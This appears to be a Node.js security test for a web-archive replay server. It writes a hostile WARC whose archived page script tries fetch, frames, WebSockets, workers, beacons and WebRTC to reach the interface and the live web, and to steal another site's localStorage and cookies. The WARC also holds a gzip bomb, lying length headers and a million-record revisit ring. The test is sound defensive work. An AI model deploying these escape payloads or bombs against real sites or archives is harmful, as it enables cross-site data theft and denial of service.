// Archives made to do harm, in Chromium: a page that tries to reach the interface, another site's page and the live web, duplicates
// in a ring, records that lie about their length, bombs. Usage: node hostile.mjs WORK TINTYPE; see ./hostile.
import { spawn } from "node:child_process";
import { appendFileSync, existsSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { createRequire } from "node:module";
import { gzipSync } from "node:zlib";

const [work, tintype] = process.argv.slice(2);
const { chromium } = createRequire(`${work}/`)("playwright-core");
const RING = Number(process.env.RING ?? 1_000_000), RESIDENT_MIB_MAX = 1024;
const warc = `${work}/hostile.warc`, DATE = "2026-01-02T03:04:05Z";
const failures = [], result = {};
const expect = (holds, what) => { if (!holds) failures.push(what); };

const hits = [];
const live = createServer((question, answer) => {
  hits.push(question.url);
  const text = question.url === "/unprotected" ? `<!doctype html><body><script>${attempts(outside)}</script></body>` : "live";
  answer.writeHead(200, { "content-type": "text/html", "access-control-allow-origin": "*" }).end(text);
});
await new Promise((resolve) => live.listen(0, "127.0.0.1", resolve));
const outside = `http://127.0.0.1:${live.address().port}`;

// What a page of the past tries; every attempt says what it got hold of, if anything.
const attempts = (inside) => `
  const inside = ${JSON.stringify(inside)}, outside = ${JSON.stringify(outside)}, got = {};
  const attempt = async (name, make) => { try { got[name] = (await make()) ?? null; } catch { got[name] = null; } };
  const loaded = (element, seconds = 2) => new Promise((done) => { element.onload = done; element.onerror = done; setTimeout(done, 1000 * seconds); });
  const framed = async (src) => { const frame = document.createElement("iframe"); frame.src = src; document.body.append(frame); await loaded(frame); return frame; };
  (async () => {
    for (const [name, at] of [["interface", inside], ["live", outside]]) {
      await attempt(name + " fetch", async () => (await fetch(at + "/api/captures")).text());
      await attempt(name + " request", () => new Promise((done) => { const x = new XMLHttpRequest(); x.onload = () => done(x.responseText || null); x.onerror = () => done(null); x.open("GET", at + "/metrics"); x.send(); }));
      await attempt(name + " frame", async () => (await framed(at + "/")).contentDocument?.body?.innerText || null);
      await attempt(name + " window", async () => { const w = open(at + "/"); await new Promise((done) => setTimeout(done, 800)); return w.document.body.innerText; });
      await attempt(name + " beacon", () => { Navigator.prototype.sendBeacon.call(navigator, at + "/beacon", "x"); });
      await attempt(name + " socket", () => new Promise((done) => { const s = new WebSocket(at.replace("http", "ws") + "/socket"); s.onopen = () => done("open"); s.onerror = () => done(null); }));
      await attempt(name + " module", async () => Object.keys(await import(at + "/module.js")));
    }
    for (const html of ["<img src=" + outside + "/img>", "<link rel=prefetch href=" + outside + "/prefetch>", "<video src=" + outside + "/video autoplay></video>",
      "<iframe srcdoc='<img src=" + outside + "/srcdoc>'></iframe>", "<iframe sandbox=allow-scripts srcdoc='<script>fetch(\\"" + outside + "/sandboxed\\")<\\/script>'></iframe>",
      "<object data=" + outside + "/object></object>", "<style>@import \\"" + outside + "/css\\"; body { background: url(" + outside + "/back) }</style>"]) {
      const range = document.createRange(); document.body.append(range.createContextualFragment(html));
    }
    await attempt("worker", async () => { await navigator.serviceWorker.register("/sw.js"); return "registered"; });
    await attempt("prototype worker", async () => { await ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, "/sw.js"); return "registered"; });
    await attempt("blob worker", () => { new Worker(URL.createObjectURL(new Blob(["fetch('" + outside + "/blob')"]))); });
    await attempt("peer", async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + new URL(outside).port }] }); peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer()); });
    const victim = await framed("http://victim.example/");
    await attempt("victim page", () => victim.contentDocument?.body?.innerText || null);
    await attempt("victim storage", () => victim.contentWindow.localStorage.getItem("secret"));
    await attempt("own storage", () => localStorage.getItem("secret"));
    await attempt("cookie", () => { document.cookie = "planted=1; domain=localhost; path=/"; document.cookie = "planted=1; domain=.localhost; path=/"; return /secret/.test(document.cookie) ? document.cookie : null; });
    await new Promise((done) => setTimeout(done, 1500));
    document.title = "done"; window.got = got;
  })();`;

let number = 0;
const record = (kind, url, fields, block, length = block.length) => Buffer.concat([Buffer.from(`WARC/1.1\r\nWARC-Type: ${kind}\r\nWARC-Record-ID: <urn:uuid:00000000-0000-4000-8000-${String(number++).padStart(12, "0")}>\r\nWARC-Target-URI: ${url}\r\nWARC-Date: ${DATE}\r\n${fields}Content-Type: application/http; msgtype=response\r\nContent-Length: ${length}\r\n\r\n`), block, Buffer.from("\r\n\r\n")]);
const http = (head, body) => Buffer.concat([Buffer.from(`HTTP/1.1 200 OK\r\n${head}\r\n\r\n`), Buffer.from(body)]);
const page = (url, body, head = "Content-Type: text/html; charset=utf-8") => record("response", url, "", http(head, body));
const again = (url, of) => record("revisit", url, `WARC-Profile: http://netpreserve.org/warc/1.1/revisit/identical-payload-digest\r\nWARC-Refers-To-Target-URI: ${of}\r\nWARC-Refers-To-Date: ${DATE}\r\nWARC-Payload-Digest: sha1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\r\n`, http("Content-Type: text/html", ""));

function write(inside) {
  rmSync(warc, { force: true });
  const bomb = gzipSync(Buffer.alloc(512 << 20));
  writeFileSync(warc, Buffer.concat([
    page("http://evil.example/", `<!doctype html><title>evil</title><body><h1>evil</h1><script>${attempts(inside)}</script></body>`),
    page("http://evil.example/sw.js", "onfetch = () => {}", "Content-Type: text/javascript"),
    page("http://evil.example/refresh", `<meta http-equiv=refresh content="0;url=${outside}/refreshed"><p>refresh</p>`),
    page("http://evil.example/leave", `<script>location.href = ${JSON.stringify(`${outside}/left`)}</script><p>leave</p>`),
    page("http://evil.example/post", `<form id=f method=post action="${outside}/posted"><input name=a value=b></form><script>f.submit()</script>`),
    page("http://victim.example/", "<!doctype html><title>victim</title><p id=told>victim</p><script>localStorage.setItem('secret', 'of the victim'); document.cookie = 'secret=victim'; told.textContent = 'victim ' + document.cookie;</script>"),
    page("http://evil.example/long", "<p>short</p>", "Content-Type: text/html\r\nContent-Length: 999999999999"),
    page("http://evil.example/chunks", "ffffffffffffffff\r\n<p>chunk</p>", "Content-Type: text/html\r\nTransfer-Encoding: chunked"),
    page("http://evil.example/bomb", bomb, "Content-Type: text/html\r\nContent-Encoding: gzip"),
    page("http://evil.example/no-gzip", "<p>plain</p>", "Content-Type: text/html\r\nContent-Encoding: gzip"),
    page("http://evil.example/deep", "<div>".repeat(200_000), "Content-Type: text/html"),
  ]));
  for (let from = 0; from < RING; from += 20_000) {
    const records = [];
    for (let at = from; at < Math.min(RING, from + 20_000); at += 1) records.push(again(`http://ring.example/${at}`, `http://ring.example/${(at + 1) % RING}`));
    appendFileSync(warc, Buffer.concat(records));
  }
  // The last one says it is longer than the file.
  appendFileSync(warc, record("response", "http://evil.example/lie", "", http("Content-Type: text/html", "<p>lie</p>"), 1e15));
}

/** A free port, so that the page can name the interface before it is there. */
async function freePort() {
  const probe = createServer();
  await new Promise((resolve) => probe.listen(0, "127.0.0.1", resolve));
  const { port } = probe.address();
  await new Promise((resolve) => probe.close(resolve));
  return port;
}

const port = await freePort(), inside = `http://localhost:${port}`;
write(inside);
const server = spawn(tintype, ["serve", warc, "--bind", `127.0.0.1:${port}`, "--json"], { stdio: ["ignore", "pipe", "inherit"] });
await new Promise((resolve) => { server.stdout.once("data", resolve); server.once("exit", resolve); });
const resident = () => Number(/VmHWM:\s+(\d+)/.exec(readFileSync(`/proc/${server.pid}/status`, "utf8"))[1]) / 1024;
result.resident_with_the_index_mib = Math.round(resident());
const executablePath = ["/usr/bin/chromium", "/usr/bin/chromium-browser"].find(existsSync);
const browser = await chromium.launch({ executablePath, args: ["--no-sandbox", "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost, EXCLUDE *.localhost"] });
try {
  // The same page where nothing holds it back: attempts that reach nothing here would prove nothing there.
  const unprotected = await (await browser.newContext()).newPage();
  await unprotected.goto(`${outside}/unprotected`);
  await unprotected.waitForFunction(() => document.title === "done", null, { timeout: 60000 });
  const reached = await unprotected.evaluate(() => window.got);
  for (const name of ["fetch", "request", "frame", "window"]) expect(reached[`live ${name}`], `unprotected, the ${name} reaches nothing`);
  result.asked_unprotected = new Set(hits.map((path) => path.split("?")[0])).size;
  for (const path of ["/beacon", "/img", "/video", "/srcdoc", "/sandboxed", "/object", "/css", "/back", "/blob", "/module.js"]) expect(hits.includes(path), `unprotected, nothing asks for ${path}`);
  await unprotected.context().close();
  hits.length = 0;
  const context = await browser.newContext();
  browser.on("disconnected", () => { if (result.at) result.browser = "gone"; });
  const show = async (url, wait = 700) => {
    result.at = url;
    const tab = await context.newPage();
    await tab.goto(`${inside}/web/2026/${url}`, { waitUntil: "domcontentloaded", timeout: 60000 }).catch(() => {});
    await tab.waitForTimeout(wait);
    const text = await tab.evaluate(() => document.body?.innerText ?? "").catch(() => "");
    return { tab, text };
  };
  expect((await show("http://victim.example/")).text.includes("secret=victim"), "a page of the past has its own cookies");
  const { tab } = await show("http://evil.example/");
  await tab.waitForFunction(() => document.title === "done", null, { timeout: 60000 }).catch(() => failures.push("the attempts did not come to their end"));
  result.got = await tab.evaluate(() => window.got).catch(() => null);
  // A window that never left for there is empty, and what is not held is said by the archive itself.
  const isNothing = (value) => value === null || value === "" || `${value}`.startsWith("nothing is held of ");
  for (const [name, value] of Object.entries(result.got ?? {})) expect(isNothing(value), `${name} got ${JSON.stringify(value)}`);
  const reader = await show("http://victim.example/");
  expect(!(await reader.tab.evaluate(() => document.cookie).catch(() => "")).includes("planted"), "a cookie was planted at another site");
  const front = await context.newPage();
  await front.goto(`${inside}/`);
  expect(!(await front.evaluate(() => document.cookie)).match(/planted|secret/), "a cookie was planted at the interface");
  for (const name of ["refresh", "leave", "post"]) await show(`http://evil.example/${name}`, 1200);
  result.long = (await show("http://evil.example/long")).text;
  expect(result.long.includes("short"), "a page that lies about its length is shown as far as it goes");
  expect((await show("http://evil.example/no-gzip")).text.includes("plain"), "what is not compressed is shown as it is");
  for (const name of ["chunks", "bomb", "deep", "lie"]) await show(`http://evil.example/${name}`);
  await show("http://ring.example/0");
  const health = await fetch(`${inside}/healthz`).then((answer) => answer.text(), String);
  expect(health === "ok\n", `the server is up: ${health}`);
  expect(hits.length === 0, `the live web was asked for ${hits.join(" ")}`);
  delete result.at;
  result.most_resident_mib = Math.round(resident());
  expect(result.most_resident_mib - result.resident_with_the_index_mib < RESIDENT_MIB_MAX, `memory: ${result.most_resident_mib} MiB`);
} catch (error) {
  failures.push(`${error}`);
} finally {
  await browser.close();
  server.kill();
  live.close();
  live.closeAllConnections();
  rmSync(warc, { force: true });
}
console.log(JSON.stringify({ ring: RING, ...result, failures }, null, 1));
process.exit(failures.length ? 1 : 0);
